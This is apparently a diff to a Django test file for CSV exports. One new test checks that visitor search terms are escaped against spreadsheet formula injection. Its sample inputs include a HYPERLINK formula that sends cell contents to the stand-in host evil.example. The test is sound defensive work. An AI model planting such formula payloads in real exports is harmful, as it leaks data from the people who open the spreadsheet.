@@ -144,7 +144,8 @@ def test_csv_export_equals_the_figure_table(client_for, office_user, cockpit_dat
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     filename = f"{slug}_{period.start.isoformat()}_{period.end.isoformat()}.csv"
     assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
-    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8")))
+    assert response.content.startswith("\ufeff".encode())  # UTF-8 for Excel by double-click
+    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
 
     assert header == HEADERS[slug]
     assert len(set(header)) == len(header), "two columns with the same name"
@@ -165,9 +166,28 @@ def test_text_cells_with_commas_and_quotes_survive_the_export(
     period = cockpit_data
     query = f"?von={period.start.isoformat()}&bis={period.end.isoformat()}"
     client = client_for(office_user)
-    searches = client.get(f"{URL}ohne-treffer.csv{query}").content.decode()
-    assert dict(list(csv.reader(io.StringIO(searches)))[1:])['Parken, "Altstadt"'] == "2"
-    workshops = client.get(f"{URL}veranstaltungen.csv{query}").content.decode()
-    (row,) = list(csv.reader(io.StringIO(workshops)))[1:]
+    searches = client.get(f"{URL}ohne-treffer.csv{query}").content.decode("utf-8-sig")
+    assert dict(read(searches)[1:])['Parken, "Altstadt"'] == "2"
+    workshops = client.get(f"{URL}veranstaltungen.csv{query}").content.decode("utf-8-sig")
+    (row,) = read(workshops)[1:]
     assert row[:2] == ['Wasser, Forst und "Klima"', "1"]
     assert row[4] == "2"  # waiting list
+
+
+def read(text):
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_a_search_term_never_runs_as_a_formula_in_the_spreadsheet(client_for, office_user):
+    """Anonymous visitors write the search terms: a term starting with = + - @ (or a tab) is
+    written with a leading ' so Excel and LibreOffice show it instead of running it."""
+    from api.searchlog import record_search
+
+    terms = ['=HYPERLINK("https://evil.example/?x="&A1;"Details")', "@SUMME(A1)", "-2+3"]
+    for term in terms:
+        record_search(term, 0)
+    today = timezone.localdate()
+    query = f"?von={today.isoformat()}&bis={today.isoformat()}"
+    response = client_for(office_user).get(f"{URL}ohne-treffer.csv{query}")
+    cells = {row[0] for row in read(response.content.decode("utf-8-sig"))[1:]}
+    assert cells == {"'" + term for term in terms}
